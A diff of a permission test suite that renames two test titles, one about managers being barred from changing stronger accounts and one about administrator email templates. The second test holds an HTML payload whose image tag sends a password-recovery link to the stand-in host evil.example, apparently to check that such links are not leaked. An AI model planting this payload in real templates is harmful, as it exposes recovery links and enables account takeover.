@@ -72,7 +72,7 @@ describe('whoever may not grant a right may not touch what leads to it', { timeo
     },
   )
 
-  test('nor status, recovery link, second step, sessions or deletion; the page knows before it asks', async () => {
+  test('a manager may not change status, recovery link, second step, sessions or deletion of a stronger account', async () => {
     const { id } = await user('admin')
     expect((await manager.get(`${USERS}/${id}`)).body.data.extraFields.access).toMatchObject({
       mayWrite: false,
@@ -314,7 +314,7 @@ describe('whoever may not grant a right may not touch what leads to it', { timeo
     ).toEqual([403, 'FORBIDDEN'])
   })
 
-  test('even an administrator’s template sends a live link to nobody but its receiver', async () => {
+  test('the template of an administrator sends a live link only to its receiver', async () => {
     const body = {
       it: '<p>{{user.fullname}}</p><img src="https://evil.example/?u={{link.recover}}">',
       en: 'x',
